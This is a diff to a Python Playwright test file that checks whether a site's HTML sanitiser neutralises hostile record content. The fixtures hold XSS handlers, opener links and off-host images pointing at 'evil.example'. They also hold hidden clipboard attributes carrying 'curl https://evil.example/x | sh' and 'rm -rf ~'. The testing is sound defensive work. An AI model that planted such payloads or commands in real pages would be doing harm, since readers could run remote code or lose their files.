@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import http.server
 import os
+import re
 import sys
 import threading
 from pathlib import Path
@@ -64,6 +65,23 @@ DARK_PAGES = ["home", "proposition", "evidence-map"]
 
 HOSTILE_ID = "hostile-title"
 HOSTILE_MARKUP = "<img src=x onerror=alert(1)> <script>alert(1)</script>"
+# Record HTML that acts on the reader without running script (class 6 of issue #8), and headings that
+# would take Material's ids: the sanitiser strips these attributes, so `check` accepts them.
+OFF_HOST = "evil.example"
+HOSTILE_BODY = f"""\
+  ## __search
+
+  Headed like Material's search toggle.
+
+  ## Stall <b onmouseover="alert(6)">hours</b>
+
+  Read <a href="https://{OFF_HOST}/report" target="_blank" rel="opener">the council report</a>,
+  <span data-clipboard-text="curl https://{OFF_HOST}/x | sh" data-md-component="dialog"
+  class="md-clipboard md-icon">copy the opening hours</span> and see
+  <img src="/\\{OFF_HOST}/chart.png" alt="a backslash chart"> and <img src="//{OFF_HOST}/c.png" alt="another">."""
+# Raw-text tags named in prose (class 3): shown as text, never swallowing the words after them.
+RAW_TEXT_AFTER = "zebra words after them stay"
+RAW_TEXT_NOTE = f"Removed the <style> element, the <template> tag and the <textarea> box; {RAW_TEXT_AFTER}."
 HOSTILE_RECORD = f"""\
 id: {HOSTILE_ID}
 kind: case-study
@@ -81,12 +99,19 @@ supports:
 sources:
   - {{title: 'Source {HOSTILE_MARKUP}', publisher: 'Publisher {HOSTILE_MARKUP}', date: 2020-01}}
 published: 2020-12-03
+body: |
+{HOSTILE_BODY}
+changes:
+  - date: 2020-12-04
+    note: '{RAW_TEXT_NOTE}'
 """
+PROPOSITION_LINK = (f'<a href="//{OFF_HOST}/p" target="_blank" rel="opener" data-clipboard-text="rm -rf ~">'
+                    'a protocol-relative link</a>')
 HOSTILE_PROPOSITION = f"""\
 id: {HOSTILE_ID}-proposition
 number: 4
 title: 'Zebra proposition {HOSTILE_MARKUP} " onmouseover="alert(3)'
-summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKUP}'
+summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKUP} {PROPOSITION_LINK}'
 published: 2020-12-03
 source: the-paper
 recommendations:
@@ -340,6 +365,56 @@ def test_markup_in_a_title_never_runs(served, visit, where):
     assert not one.dialogs, f"record markup ran as script on the {where} page: {one.dialogs}"
     assert not _injected(page), f"record markup became HTML on the {where} page: {_injected(page)}"
     assert not one.outside_requests()
+
+
+# Where record text shows on the hostile site: its own page, and the shared pages that show its text.
+HOSTILE_PAGES = {"record": f"evidence/{HOSTILE_ID}/", "proposition": f"propositions/{HOSTILE_ID}-proposition/",
+                 "updates": "updates/", "print-edition": "print/", "home": ""}
+SAFE_ANCHOR = r"^#[A-Za-z0-9][A-Za-z0-9_-]*$"
+
+
+@pytest.mark.parametrize("where", list(HOSTILE_PAGES))
+def test_record_html_cannot_act_on_the_reader(served, visit, where):
+    """Handlers, Material's data-* and classes, target/rel=opener, off-host images and Material's ids in record
+    text: nothing runs, nothing loads from elsewhere, nothing reaches Material's JavaScript."""
+    one = visit()
+    page = one.goto(served["hostile"] + HOSTILE_PAGES[where])
+    page.wait_for_load_state("networkidle")
+    page.wait_for_timeout(200)  # a broken image's onerror fires after load
+    assert not one.dialogs, f"record markup ran as script on the {where} page: {one.dialogs}"
+    handlers = page.evaluate("""() => [...document.querySelectorAll('*')]
+        .filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on')))
+        .map(e => e.outerHTML.slice(0, 120))""")
+    assert handlers == [], f"elements with event handlers on the {where} page: {handlers}"
+    assert not one.outside_requests(), f"{where} asked other hosts for: {sorted(set(one.outside_requests()))}"
+    assert not [url for url in one.requests if OFF_HOST in url]
+    article = page.locator("article")
+    steered = article.evaluate("""a => [a, ...a.querySelectorAll('*')].filter(e => e !== a)
+        .filter(e => [...e.attributes].some(x => x.name.startsWith('data-') || ['target', 'style', 'role',
+                     'tabindex'].includes(x.name)) || /(^|\\s)md-/.test(e.getAttribute('class') || ''))
+        .map(e => e.outerHTML.slice(0, 120))""")
+    assert steered == [], f"record HTML reaches Material's JavaScript or the reader on the {where} page: {steered}"
+    assert page.locator("[data-clipboard-text], [data-clipboard-target]").count() == 0
+    assert page.locator('[id="__search"]').count() == 1, "a heading took the id of Material's search toggle"
+    for link in article.locator(f'a[href*="{OFF_HOST}"]').all():
+        assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}, link.evaluate("a => a.outerHTML")
+    toc = page.locator("nav.md-nav--secondary a.md-nav__link").evaluate_all("ls => ls.map(l => l.getAttribute('href'))")
+    assert all(re.match(SAFE_ANCHOR, href) for href in toc), toc
+    if where in ("record", "print-edition"):
+        text = article.inner_text()
+        assert "the council report" in text and "copy the opening hours" in text and "Stall hours" in text
+
+
+@pytest.mark.parametrize("where", ["updates", "home"])
+def test_a_raw_text_tag_in_a_change_note_swallows_nothing(served, visit, where):
+    """`<style>`, `<template>` and `<textarea>` named in a note show as text, and the words after them stay."""
+    page = visit().goto(served["hostile"] + HOSTILE_PAGES[where])
+    text = page.locator("article").inner_text()
+    assert "the <style> element, the <template> tag and the <textarea> box" in text, f"{where}: {text[-300:]}"
+    assert RAW_TEXT_AFTER in text
+    if where == "home":
+        assert "All updates" in text  # the home page's own words after the latest updates
+    assert page.locator("article style, article template, article textarea").count() == 0
 
 
 # -- (d) small screens ---------------------------------------------------------------------------------
